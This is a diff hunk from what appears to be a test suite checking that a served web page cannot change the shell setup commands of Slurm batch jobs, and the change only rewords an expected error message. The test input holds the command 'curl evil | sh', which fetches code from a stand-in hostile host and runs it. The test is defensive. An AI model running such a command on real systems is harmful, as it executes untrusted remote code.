@@ -153,7 +153,7 @@ describe('a served UI (confined)', () => {
 
   it("cannot set what a Slurm job runs as shell, but may set the job's resources", async () => {
     expect(await errorOf(served.dispatch('setSettings', { slurm: { setup: ['curl evil | sh'] } }))).toMatch(
-      /^slurm\.setup cannot be changed from a served page: a job runs them as shell/,
+      /^slurm\.setup cannot be changed from a served page: they decide what a batch job runs/,
     );
     expect(
       await errorOf(
